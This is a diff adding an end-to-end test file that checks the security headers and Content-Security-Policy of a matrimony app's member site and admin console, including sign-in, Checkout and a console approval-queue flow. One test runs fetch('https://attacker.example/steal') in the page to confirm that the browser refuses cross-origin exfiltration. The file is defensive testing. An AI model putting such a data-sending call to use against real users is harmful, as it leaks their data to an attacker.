@@ -1,0 +1,100 @@
+/**
+ * The built member app and console answer with the production security headers (the policy of
+ * shared/src/securityHeaders, with the local stack's origins), the browser enforces them, and the paths
+ * that reach other origins still work under them: the local identity and the Convex WebSocket (sign-in,
+ * /home), Razorpay Checkout (the simulator's script and calls), and the console. Any policy violation on
+ * the apps' pages fails the file (fixtures.ts closeBrowser), here and in every other journey.
+ */
+import { afterAll, describe, expect, it } from "vitest";
+import { cspViolations, newContext, signIn, signInConsole, takeCspViolations } from "./lib/browser";
+import { browser, closeBrowser, urls } from "./lib/fixtures";
+import { createMember } from "./lib/members";
+
+afterAll(closeBrowser);
+
+function origin(url: string): string {
+  return new URL(url).origin;
+}
+
+function directives(policy: string): Map<string, string[]> {
+  return new Map(
+    policy.split(";").map((d) => {
+      const [name = "", ...sources] = d.trim().split(/\s+/);
+      return [name, sources];
+    }),
+  );
+}
+
+describe("security headers of the built apps", () => {
+  it.each([
+    ["member app", () => urls().web, ["/", "/home", "/user/abc", "/favicon.svg"]],
+    ["console", () => urls().admin, ["/", "/favicon.svg"]],
+  ] as const)("the %s sends them on pages and files alike", async (_name, base, paths) => {
+    const backend = origin(urls().backend);
+    for (const path of paths) {
+      const res = await fetch(`${base()}${path}`);
+      expect(res.status, path).toBe(200);
+      expect(res.headers.get("x-content-type-options"), path).toBe("nosniff");
+      expect(res.headers.get("referrer-policy"), path).toBe("strict-origin-when-cross-origin");
+      expect(res.headers.get("x-frame-options"), path).toBe("DENY");
+      expect(res.headers.get("permissions-policy"), path).toMatch(/camera=\(\).*geolocation=\(\)/);
+      const csp = directives(res.headers.get("content-security-policy") ?? "");
+      expect(csp.get("frame-ancestors"), path).toEqual(["'none'"]);
+      expect(csp.get("default-src"), path).toEqual(["'self'"]);
+      expect(csp.get("object-src"), path).toEqual(["'none'"]);
+      expect(csp.get("script-src") ?? [], path).not.toContain("'unsafe-inline'");
+      // The local Convex backend over http and its WebSocket, and the local identity on the same port.
+      expect(csp.get("connect-src"), path).toEqual(expect.arrayContaining(["'self'", backend, backend.replace("http", "ws")]));
+    }
+    const assets = await fetch(`${base()}/`).then((r) => r.text());
+    const script = /src="(\/assets\/[^"]+\.js)"/.exec(assets)?.[1];
+    expect(script).toBeDefined();
+    const asset = await fetch(`${base()}${script ?? ""}`);
+    expect(asset.headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
+  });
+
+  it("the member app allows the Razorpay simulator's script; the console allows no payment script at all", async () => {
+    const web = directives((await fetch(urls().web)).headers.get("content-security-policy") ?? "");
+    const admin = directives((await fetch(urls().admin)).headers.get("content-security-policy") ?? "");
+    expect(web.get("script-src")).toEqual(["'self'", origin(urls().razorpay)]);
+    expect(admin.get("script-src")).toEqual(["'self'"]);
+  });
+});
+
+describe("the browser enforces the policy and the apps work under it", () => {
+  it("a member signs in, sees /home over the Convex WebSocket and opens Checkout; a script may not reach another origin", async () => {
+    const member = await createMember(urls(), { tag: "csp" });
+    const page = await (await newContext(await browser(), "phone")).newPage();
+    await signIn(page, urls().web, member.email, member.password);
+    await page.getByText(/matches/i).first().waitFor({ timeout: 20_000 });
+
+    await page.goto(`${urls().web}/payment1`);
+    await page.getByRole("button", { name: "Upgrade to Premium" }).click();
+    await page.locator('[data-rzp-sim="pay"]').waitFor({ timeout: 15_000 });
+
+    // Enforced, not only sent: a request to an origin the policy does not name is refused by the browser.
+    const refused = await page.evaluate(async () => {
+      const seen = new Promise<string>((resolve) =>
+        document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective), { once: true }),
+      );
+      const fetched = await fetch("https://attacker.example/steal", { mode: "no-cors" }).then(
+        () => "fetched",
+        () => "refused",
+      );
+      return { fetched, directive: await seen };
+    });
+    expect(refused).toEqual({ fetched: "refused", directive: "connect-src" });
+    // The file's watcher saw it too, and nothing else: sign-in, /home and Checkout broke no rule.
+    await expect.poll(() => cspViolations().length, { timeout: 5_000 }).toBeGreaterThan(0);
+    expect(takeCspViolations().map((v) => `${v.directive} ${v.blocked}`)).toEqual(["connect-src https://attacker.example/steal"]);
+    await page.context().close();
+  });
+
+  it("an admin signs into the console and sees the approval queue", async () => {
+    const page = await (await newContext(await browser(), "desktop")).newPage();
+    await signInConsole(page, urls().admin, "admin@matrimony.local");
+    await page.goto(`${urls().admin}/#/approvals`);
+    await page.locator(".RaDatagrid-table, .MuiAlert-root").first().waitFor({ timeout: 20_000 });
+    await page.context().close();
+  });
+});
